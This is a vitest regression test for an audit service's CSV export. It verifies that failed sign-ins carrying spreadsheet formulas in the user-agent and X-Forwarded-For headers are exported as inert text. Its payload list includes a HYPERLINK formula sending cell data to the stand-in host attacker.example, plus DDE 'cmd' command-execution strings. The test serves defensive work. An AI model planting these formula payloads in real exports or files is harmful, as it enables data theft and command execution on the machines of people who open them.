import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, eventually, startAudit, startIdentity, type RunningAudit, type RunningIdentity } from '../../support/harness.js';
import { person, type Person } from '../../support/people.js';
import { AttackTally, recordAttack } from './support.js';

// Finding 9 (medium): a failed sign-in with `user-agent: =HYPERLINK(…)` (or an X-Forwarded-For of `=1+1`) landed as a
// live formula in the CSV export an admin opens. Now such cells are prefixed with an apostrophe (they stay text), and
// an address that is not one is not recorded at all.
const SUITE = 'an-audit-export-never-carries-a-live-formula';
// (A leading tab or carriage return cannot travel in an HTTP header; the unit test of inertCell covers those.)
const PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];

let identity: RunningIdentity;
let audit: RunningAudit;
let root: Person;
const tally = new AttackTally();
let passed = false;

beforeAll(async () => {
  identity = await startIdentity();
  audit = await startAudit(identity);
  root = await person(identity, 'csv-root', ['platform_admin']);
  await eventually(async () => (audit.runtime.policy.enforce(root.id, 'platform', 'audit', 'export') ? true : undefined));
}, 60_000);

afterAll(async () => {
  if (passed) recordAttack({ suite: SUITE, title: 'Attack: a formula in the CSV export', finding: 9, tried: tally.tried, gotIn: tally.gotIn, notes: `Failed sign-ins whose user agent is a spreadsheet formula (${PAYLOADS.length} kinds), with X-Forwarded-For =1+1, exported as CSV.` });
  await audit?.close();
  await identity?.close();
});

describe('the CSV export', () => {
  it("keeps an attacker's formula text, never a formula a spreadsheet would run", async () => {
    const marker = randomUUID();
    for (const [index, payload] of PAYLOADS.entries()) {
      const answer = await call('POST', `${identity.url}/v1/auth/login`, undefined, { email: `csv-${marker}-${index}@example.test`, password: 'wrong password' }, {
        'user-agent': payload,
        'x-forwarded-for': '=1+1',
        'x-request-id': `csv-${marker}-${index}`,
      });
      expect(answer.status).toBe(401);
    }
    const exported = async () => {
      const response = await fetch(`${audit.url}/v1/events/export?format=csv&type=portcullis.identity.login.failed`, { headers: { authorization: `Bearer ${root.token}` } });
      const text = await response.text();
      return PAYLOADS.every((_, index) => text.includes(`csv-${marker}-${index}`)) ? text : undefined;
    };
    const csv = await eventually(exported, 10_000, 200);
    const rows = csv.split('\n').filter((line) => line.includes(`csv-${marker}-`));
    expect(rows).toHaveLength(PAYLOADS.length);
    for (const row of rows) {
      // No cell (quoted or not) starts with a formula character.
      const live = /(^|,)"?[=+\-@\t\r]/.test(row.replace(/\{.*\}/, '{}'));
      expect(tally.attempt(!live), row).toBe(true);
      // The forged address is not recorded: the ip cell is empty.
      expect(tally.attempt(!row.includes('=1+1'))).toBe(true);
    }
    for (const payload of PAYLOADS) expect(csv.includes(`'${payload.replace(/"/g, '""')}`), `${payload} kept as text`).toBe(true);
    passed = true;
  });
});
